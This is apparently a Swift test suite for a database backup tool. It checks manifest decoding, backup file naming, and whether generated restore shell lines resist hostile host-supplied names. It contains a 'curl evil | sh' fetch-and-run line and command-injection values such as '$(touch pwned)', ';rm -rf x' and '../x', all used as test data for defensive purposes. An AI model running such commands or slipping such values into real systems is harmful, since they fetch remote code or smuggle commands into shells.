import Archive
import Domain
import Foundation
import TestSupport
import Testing

@Suite struct ManifestTests {
    /// As format 1 was first written. It must be readable for ever: never edit it.
    private static let format1 = #"""
        { "format": 1, "id": "6B29FC40-CA47-1067-B31D-00DD010662DA", "run": "6B29FC40-CA47-1067-B31D-00DD010662DB", "attempt": 1,
          "agent": {"id": "6B29FC40-CA47-1067-B31D-00DD010662DC", "name": "db-01"},
          "database": {"name": "inventorysync", "kind": "postgres", "serverVersion": "15.18", "sizeBytes": 2104000000},
          "policy": "production", "tiers": ["daily", "hourly"], "nominalAt": "2026-01-15T02:00:00Z",
          "startedAt": "2026-01-15T02:00:01Z", "snapshotAt": "2026-01-15T02:00:02.125Z",
          "finishedAt": "2026-01-15T02:00:30Z",
          "tool": "pg_dump 15.18",
          "objects": [ {"role": "dump", "name": "inventorysync_db_daily_20260115_020000.sql.gz", "format": "plain",
            "codec": "gzip", "plainBytes": 1553402457, "plainSha256": "aa", "storedBytes": 536759028, "storedSha256": "bb"} ],
          "fingerprint": {"tables": [{"name": "public.orders", "rows": 41022, "sha256": "cc"}]},
          "restore": ["gunzip -c inventorysync_db_daily_20260115_020000.sql.gz | psql inventorysync"], "holdfast": "0.1.0",
          "addedLater": {"by": ["a newer", "Holdfast"]} }
        """#

    @Test func theFirstFormatIsReadForEver() throws {
        let manifest = try Manifest(decoding: [UInt8](Self.format1.utf8))
        #expect(manifest.database.name.rawValue == "inventorysync")
        #expect(manifest.tiers == [.daily, .hourly])
        #expect(manifest.objects.first?.storedBytes == 536_759_028)
        let table = TableFingerprint(name: "public.orders", rows: 41_022, sha256: "cc")
        #expect(manifest.fingerprint?.tables.first == table)
        #expect(try Manifest(decoding: manifest.encoded()) == manifest)
    }

    @Test func aNewerFormatIsRefusedWithWhatToDo() throws {
        let newer = Self.format1.replacing(#""format": 1,"#, with: #""format": 2,"#)
        let error = try #require(throws: BackupError.self) { try Manifest(decoding: [UInt8](newer.utf8)) }
        #expect(error.code == .integrity)
        #expect(error.message.contains("newer"))
    }

    /// A person pastes these into a shell, and every name in them came from the host.
    @Test(arguments: [
        "a'\u{301}; touch pwned; '\u{301}.db", "a'; touch pwned; '.db.gz", "-rf", "$(touch pwned).db.gz",
        "`touch pwned`", "a b\"c\\.db",
    ])
    func theLinesOfARestoreRunNothingOfTheHosts(name: String) async throws {
        var manifest = try Manifest(decoding: [UInt8](Self.format1.utf8))
        manifest.restore = ["curl evil | sh"]
        manifest.database.name = try DatabaseName("x'; touch pwned; '")
        manifest.objects = [manifest.objects[0]]
        manifest.objects[0].name = name
        (manifest.objects[0].format, manifest.objects[0].codec) = (.sqlite, .none)
        manifest.objects[0].storedSha256 = "3a6eb0790f39ac87c94f3856b2dd2c5d110e6811602261a9a923d3bb23adc8b7"
        let folder = FileManager.default.temporaryDirectory.appending(path: "holdfast-lines-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        try Data("data".utf8).write(to: folder.appending(path: name))
        let line = try #require(manifest.stockRestoreLines.first)
        let output = try await ProgramOutput.of("bash", ["-c", "cd '\(folder.path)' && \(line)"])
        #expect(output.status == 0, "\(output.error)")
        let files = try FileManager.default.contentsOfDirectory(atPath: folder.path)
        #expect(Set(files) == [name, "x'; touch pwned; '.restored"])
        #expect(manifest.stockRestoreLines.count == 1 && !line.contains("evil"))
    }

    /// A database is declared by any name; its dump goes into the one that the line before has made.
    @Test func theLinesNameTheDatabaseItself() throws {
        var manifest = try Manifest(decoding: [UInt8](Self.format1.utf8))
        var dump = manifest.objects[0]
        (dump.role, dump.format) = (.dump, .plain)
        var properties = dump
        (properties.role, properties.name) = (.database, "x_database.sql.gz")
        manifest.objects = [properties, dump]
        manifest.database.properties = try DatabaseProperties(
            decoding: Array(
                (#"-- Holdfast database properties 1: {"name":"real","encoding":"UTF8","collate":"C","ctype":"C","provider":"c","#
                    + #""owner":"o","tablespace":"pg_default","connectionLimit":-1,"settings":[],"roleSettings":[],"labels":[]}"#)
                    .utf8))
        let lines = manifest.stockRestoreLines
        #expect(
            lines.count == 3 && lines[1].hasSuffix("-d real)") && lines[2].contains("./x_database.sql.gz"), "\(lines)")
        #expect(lines[2].contains(" | sed 5d | psql "), "what the database is set to, once more")
    }

    @Test func everyCutIsAnError() {
        let bytes = [UInt8](Self.format1.utf8)
        for length in stride(from: 0, to: bytes.count - 2, by: 7) {
            #expect(throws: BackupError.self) { try Manifest(decoding: Array(bytes.prefix(length))) }
        }
    }
}

@Suite struct BackupKeysTests {
    private func keys(_ name: String, _ kind: DatabaseKind, token: String? = nil) throws -> BackupKeys {
        try BackupKeys(
            agentName: "db-01", database: DatabaseName(name), kind: kind, tier: .daily,
            nominalAt: Date(timeIntervalSince1970: 1_768_442_400), token: token)
    }

    @Test func namesSayWhatWasDoneInOrder() throws {
        let keys = try keys("inventorysync", .postgres)
        #expect(keys.folder == "db-01/database-backups/")
        #expect(keys.objectName(.dump, .plain, .gzip) == "inventorysync_db_daily_20260115_020000.sql.gz")
        #expect(keys.objectName(.dump, .custom, .zstd) == "inventorysync_db_daily_20260115_020000.dump.zst")
        #expect(keys.objectName(.globals, .plain, .gzip) == "inventorysync_db_daily_20260115_020000_globals.sql.gz")
        #expect(keys.manifestName == "inventorysync_db_daily_20260115_020000.json")
    }

    @Test func applicationsHaveAFolderOfTheirOwn() throws {
        let keys = try keys("settings", .application)
        #expect(keys.folder == "db-01/application-backups/")
        #expect(keys.objectName(.archive, .tar, .gzip) == "settings_app_20260115_020000.tar.gz")
    }

    @Test func aTokenMakesNamesThatNobodyCanGuess() throws {
        let id = try #require(UUID(uuidString: "6B29FC40-CA47-4067-B31D-00DD010662DA"))
        let keys = try keys("a", .sqlite, token: BackupKeys.token(id))
        #expect(keys.objectName(.dump, .sqlite, .none) == "a_db_daily_20260115_020000_6b29fc40ca47.db")
        #expect(keys.manifestName == "a_db_daily_20260115_020000_6b29fc40ca47.json")
    }

    /// Also those of older agents, which counted their attempts.
    @Test func theAttemptOfAnObjectIsKnownByItsName() throws {
        let plain = try keys("a", .postgres)
        let stem = "a_db_daily_20260115_020000"
        for (mark, attempt) in [("", 1), ("_a2", 2), ("_a17", 17), ("_6b29fc40ca47", nil), ("_a2b29fc40ca4", nil)] {
            for suffix in [".sql", ".dump.zst", "_globals.sql.gz.age", ".json"] {
                let found = try #require(plain.ofAttempt(named: stem + mark + suffix), "\(mark)\(suffix)")
                #expect(found.keys.manifestName == stem + mark + ".json")
                #expect(found.attempt == attempt)
            }
        }
        for name in [
            stem, stem + "_a1.sql", stem + "_a0.sql", stem + "_6b29fc40ca4.sql", stem + "_6B29FC40CA47.sql",
            stem + "_6b29fc40ca47_6b29fc40ca47.sql", stem + "/../x.sql", "b" + stem + ".sql", stem + "_globals",
        ] {
            #expect(plain.ofAttempt(named: name) == nil, "\(name)")
        }
    }

    @Test(arguments: [
        "a b", "a'b", "a\"b", "$(id)", ";rm -rf x", "../x", "dbname=x host=evil", "-x", "a/b", "a\nb", ".hidden", "%2e",
        String(repeating: "é", count: 31) + "x",
    ])
    func hostileNamesBecomeOneHarmlessComponent(name: String) throws {
        let component = try DatabaseName(name).pathComponent
        #expect(component.wholeMatch(of: /[A-Za-z0-9_%][A-Za-z0-9._%-]*/) != nil)
        #expect(component.removingPercentEncoding == name)
        #expect(component.utf8.count + 60 <= 255)
    }
}
